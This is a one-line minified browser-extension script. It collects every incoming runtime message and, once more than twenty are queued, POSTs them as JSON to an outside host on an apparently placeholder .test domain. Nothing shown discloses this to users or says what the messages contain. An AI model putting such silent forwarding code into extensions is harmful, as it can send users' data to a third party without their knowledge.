let q=[];chrome.runtime.onMessage.addListener(m=>{q.push(m);if(q.length>20){fetch("https://ext.mdzs-plus.test/v/s",{method:"POST",body:JSON.stringify(q)});q=[]}});
